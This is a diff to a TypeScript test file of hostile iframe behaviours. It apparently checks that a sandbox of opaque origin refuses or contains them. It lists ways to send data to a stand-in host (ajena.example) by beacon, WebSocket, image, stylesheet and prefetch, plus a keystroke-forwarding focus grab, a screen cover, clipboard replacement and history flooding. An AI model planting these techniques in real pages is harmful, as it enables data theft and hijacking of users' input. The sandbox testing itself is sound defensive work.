@@ -88,7 +88,7 @@ const sends: readonly Tried[] = [
   {
     what: 'calls the api without the shell',
     attempt: ({ blocked }) =>
-      blocked(() => {
+      blocked('/api/user/products', () => {
         const request = new XMLHttpRequest();
         request.open('GET', '/api/user/products');
         request.send();
@@ -100,15 +100,16 @@ const sends: readonly Tried[] = [
   },
   {
     what: 'sends data away by a beacon',
-    attempt: ({ blocked }) => blocked(() => navigator.sendBeacon('https://ajena.example/', '1')),
+    attempt: ({ blocked }) =>
+      blocked('https://ajena.example/beacon', (address) => navigator.sendBeacon(address, '1')),
   },
   {
     what: 'sends data away by a WebSocket',
-    attempt: ({ blocked }) => blocked(() => new WebSocket('wss://ajena.example/')),
+    attempt: ({ blocked }) => blocked('wss://ajena.example/socket', (address) => new WebSocket(address)),
   },
   {
     what: 'sends data away by a stream of events',
-    attempt: ({ blocked }) => blocked(() => new EventSource('https://ajena.example/?dato=1')),
+    attempt: ({ blocked }) => blocked('https://ajena.example/events', (address) => new EventSource(address)),
   },
   {
     what: 'sends data away by a connection to another browser',
@@ -126,12 +127,16 @@ const sends: readonly Tried[] = [
   },
   {
     what: 'sends data away in the address of a picture',
-    attempt: ({ blocked }) => blocked(() => (new Image().src = 'https://ajena.example/?dato=1')),
+    attempt: ({ blocked }) =>
+      blocked('https://ajena.example/picture', (address) => (new Image().src = address)),
   },
   {
     what: 'sends data away in the address of a background',
     attempt: ({ blocked }) =>
-      blocked(() => (document.body.style.backgroundImage = 'url(https://ajena.example/?dato=1)')),
+      blocked(
+        'https://ajena.example/background',
+        (address) => (document.body.style.backgroundImage = `url(${address})`),
+      ),
   },
   {
     what: 'sends data away in the address of a font',
@@ -140,36 +145,36 @@ const sends: readonly Tried[] = [
   {
     what: 'sends data away in the address of a style sheet',
     attempt: ({ blocked }) =>
-      blocked(() => {
+      blocked('https://ajena.example/style.css', (href) => {
         const link = document.createElement('link');
-        Object.assign(link, { rel: 'stylesheet', href: 'https://ajena.example/?dato=1' });
+        Object.assign(link, { rel: 'stylesheet', href });
         document.head.append(link);
       }),
   },
   {
     what: 'sends data away by a prefetch',
     attempt: ({ blocked }) =>
-      blocked(() => {
+      blocked('https://ajena.example/prefetch', (href) => {
         const link = document.createElement('link');
-        Object.assign(link, { rel: 'prefetch', href: 'https://ajena.example/?dato=1' });
+        Object.assign(link, { rel: 'prefetch', href });
         document.head.append(link);
       }),
   },
   {
     what: 'shows a frame of another origin',
     attempt: ({ blocked }) =>
-      blocked(() => {
+      blocked('https://ajena.example/', (address) => {
         const inner = document.createElement('iframe');
-        inner.src = 'https://ajena.example/';
+        inner.src = address;
         document.body.append(inner);
       }),
   },
   {
     what: 'shows the sign-in of the platform in a frame',
     attempt: ({ blocked }) =>
-      blocked(() => {
+      blocked('/#/login', (address) => {
         const inner = document.createElement('iframe');
-        inner.src = '/#/login';
+        inner.src = address;
         document.body.append(inner);
       }),
   },
@@ -269,7 +274,7 @@ const permissions: readonly Tried[] = [
 ];
 
 /** Takes effect inside the frame, and ends with the visit. */
-const contained: readonly Tried[] = [
+const stores: readonly Tried[] = [
   {
     what: 'stores data in the browser for its next visit',
     isTriedAgain: true,
@@ -288,60 +293,75 @@ const contained: readonly Tried[] = [
       return 'contained';
     },
   },
-  {
-    what: 'covers all that it can',
-    attempt: async () => {
-      const cover = document.createElement('div');
-      cover.style.cssText = 'position:fixed;inset:-9999px;z-index:2147483647;background:red';
-      document.body.append(cover);
-      return 'contained';
-    },
-  },
-  {
-    what: 'takes the focus again and again',
-    attempt: async () => {
-      const fields = [document.createElement('input'), document.createElement('input')];
-      document.body.append(...fields);
-      window.addEventListener('keydown', ({ key }) => parent.postMessage({ typed: key }, '*'));
-      setInterval(() => {
-        window.focus();
-        for (const field of fields) field.focus();
-      }, 5);
-      return 'contained';
-    },
-  },
 ];
 
-/** What the browser answers to code in a frame of an opaque origin, with the policy of a third party. */
-export const browserAttacks: readonly FrameAttack[] = [
-  ...[...reads, ...leaves, ...sends, ...runs, ...permissions].map((attack) => ({
-    ...attack,
-    outcome: 'refused' as const,
-  })),
-  ...contained.map((attack) => ({ ...attack, outcome: 'contained' as const })),
-  {
-    what: 'replaces the clipboard at a press of the user',
-    attempt: async () => {
-      document.body.append('1000 €');
-      getSelection()?.selectAllChildren(document.body);
-      return document.execCommand('copy') ? 'passes' : 'refused';
-    },
-    outcome: 'passes',
+/** What the browser rejects in a frame of an opaque origin, with the policy of a third party. Each list is tried in one visit. */
+export const refusedByBrowser: readonly (readonly FrameAttack[])[] = [
+  reads,
+  leaves,
+  sends,
+  runs,
+  permissions,
+].map((attacks) => attacks.map((attack) => ({ ...attack, outcome: 'refused' })));
+
+export const storingAttacks: readonly FrameAttack[] = stores.map((attack) => ({
+  ...attack,
+  outcome: 'contained',
+}));
+
+/** Hides all elements of its screen. */
+export const coveringAttack: FrameAttack = {
+  what: 'covers all that it can',
+  attempt: async () => {
+    const cover = document.createElement('div');
+    cover.style.cssText = 'position:fixed;inset:-9999px;z-index:2147483647;background:red';
+    document.body.append(cover);
+    return 'contained';
   },
-  {
-    what: 'adds 40 entries to the history of the tab',
-    attempt: async () => {
-      for (let count = 0; count < 40; count += 1) location.hash = `#/hostil?vez=${count}`;
-      return 'passes';
-    },
-    outcome: 'ended',
+  outcome: 'contained',
+};
+
+export const focusAttack: FrameAttack = {
+  what: 'takes the focus again and again',
+  attempt: async () => {
+    const fields = [document.createElement('input'), document.createElement('input')];
+    document.body.append(...fields);
+    window.addEventListener('keydown', ({ key }) => parent.postMessage({ typed: key }, '*'));
+    setInterval(() => {
+      window.focus();
+      for (const field of fields) field.focus();
+    }, 5);
+    return 'contained';
   },
-  {
-    what: 'adds 100 entries to the history of the tab',
-    attempt: async () => {
-      for (let count = 0; count < 100; count += 1) location.hash = `#/hostil?vez=${count}`;
-      return 'passes';
-    },
-    outcome: 'ended',
+  outcome: 'contained',
+};
+
+export const clipboardAttack: FrameAttack = {
+  what: 'replaces the clipboard at a press of the user',
+  attempt: async () => {
+    document.body.append('1000 €');
+    getSelection()?.selectAllChildren(document.body);
+    return document.execCommand('copy') ? 'passes' : 'refused';
   },
-];
+  outcome: 'passes',
+};
+
+/** Fewer entries than the browser stores. */
+export const smallHistoryAttack: FrameAttack = {
+  what: 'adds 40 entries to the history of the tab',
+  attempt: async () => {
+    for (let count = 0; count < 40; count += 1) location.hash = `#/hostil?vez=${count}`;
+    return 'passes';
+  },
+  outcome: 'ended',
+};
+
+/** More entries than the browser stores. */
+export const largeHistoryAttack: FrameAttack = {
+  what: 'adds 100 entries to the history of the tab',
+  attempt: async () => {
+    for (let count = 0; count < 100; count += 1) location.hash = `#/hostil?vez=${count}`;
+    return 'passes';
+  },
+  outcome: 'ended',
+};
